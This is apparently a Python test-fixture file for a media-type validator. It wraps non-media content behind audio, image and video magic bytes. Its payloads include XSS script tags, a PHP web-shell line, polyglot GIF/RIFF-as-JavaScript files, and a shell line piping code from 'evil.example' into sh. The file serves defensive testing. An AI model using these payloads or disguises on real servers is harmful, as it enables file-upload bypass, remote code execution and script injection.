"""Files that are not media, each as itself and behind the first bytes of the accepted formats."""

import gzip
import io
import tarfile
import zipfile
from collections.abc import Iterator
from typing import Final

HTML: Final = b"<!doctype html><html><body><script>alert(document.domain)</script></body></html>\n" * 30
JS: Final = b"x=1;ftyp=2;/*" + b" " * 64 + b"*/alert(1);\n" * 60
SVG: Final = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>' * 20
PHP: Final = b"<?php system($_GET['c']); ?>\n" * 80
TEXT: Final = b"The quick brown fox jumps over the lazy dog.\n" * 60
SHELL: Final = b"#!/bin/sh\ncurl https://evil.example/x | sh\n" * 50
EXE: Final = b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0\xb8" + bytes(47) + b"PE\0\0L\1" + bytes(range(256)) * 12
ELF: Final = b"\x7fELF\2\1\1" + bytes(range(256)) * 12
PDF: Final = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog>>endobj\n" * 40

SIGNATURES: Final = {
    "none": b"",
    "ID3": b"ID3",
    "ID3 header": b"ID3\x04\0\0\0\0\0\x0a" + bytes(10),
    "MPEG header": b"\xff\xfb\x90\x64",
    "ADTS header": b"\xff\xf1\x50\x80\x43\xff\xfc",
    "RIFF WAVE": b"RIFF\x24\x08\0\0WAVE",
    "RIFF WAVE fmt": b"RIFF\x24\x08\0\0WAVEfmt \x10\0\0\0",
    "OggS": b"OggS",
    "OggS page": b"OggS\0\2" + bytes(20) + b"\1\x13OpusHead",
    "fLaC": b"fLaC",
    "fLaC header": b"fLaC\0\0\0\x22",
    "ftyp": b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom",
    "FORM AIFF": b"FORM\0\0\x08\0AIFF",
    "EBML": b"\x1a\x45\xdf\xa3",
    "EBML webm": b"\x1a\x45\xdf\xa3\x9f"
    b"\x42\x86\x81\x01\x42\xf7\x81\x01\x42\xf2\x81\x04\x42\xf3\x81\x08\x42\x82\x84webm",
    "moov": b"\0\0\0\x40moov",
    "mdat": b"\0\0\1\0mdat",
    "JPEG": b"\xff\xd8\xff",
    "JPEG JFIF": b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0",
    "PNG": b"\x89PNG\r\n\x1a\n",
    "PNG IHDR": b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR",
    "GIF89a": b"GIF89a",
    "GIF screen": b"GIF89a\x01\0\x01\0\0\0\0",
    "RIFF WEBP": b"RIFF\0\x08\0\0WEBPVP8 ",
    "avif": b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf",
}
SPECIAL: Final = {
    "comment ftyp": b"<!--ftyp--><script>alert(1)</script>" + HTML,
    "RIFF comment": b"RIFF<!--WAVE-->" + HTML,
    "FORM comment": b"FORM<!--AIFF-->" + HTML,
    "GIF as JS": b"GIF89a/*" + b" " * 40 + b"*/=1;" + JS,
    "RIFF as JS": b"RIFF=1;/*WAVE*/" + JS,
    "three bytes": b"ID3",
    "zeros": bytes(4096),
}


def archive(kind: str) -> bytes:
    """Return a small archive."""
    buffer = io.BytesIO()
    if kind == "zip":
        with zipfile.ZipFile(buffer, "w") as made:
            made.writestr("index.html", HTML)
    else:
        with tarfile.open(fileobj=buffer, mode="w") as tar:
            info = tarfile.TarInfo("index.html")
            info.size = len(HTML)
            tar.addfile(info, io.BytesIO(HTML))
    return buffer.getvalue()


def payloads() -> dict[str, bytes]:
    """Return contents that must not be served as media."""
    return {
        "HTML": HTML,
        "JS": JS,
        "SVG": SVG,
        "PHP": PHP,
        "text": TEXT,
        "shell": SHELL,
        "EXE": EXE,
        "ELF": ELF,
        "PDF": PDF,
        "ZIP": archive("zip"),
        "tar": archive("tar"),
        "gzip": gzip.compress(TEXT * 40),
        "UTF-16": HTML.decode().encode("utf-16"),
    }


def disguises() -> Iterator[tuple[str, bytes]]:
    """Yield each payload behind each signature, and some files of their own kind."""
    for label, payload in payloads().items():
        for name, magic in SIGNATURES.items():
            yield f"{name} + {label}", magic + payload
    yield from SPECIAL.items()
    for name, magic in SIGNATURES.items():
        yield f"{name} alone", magic
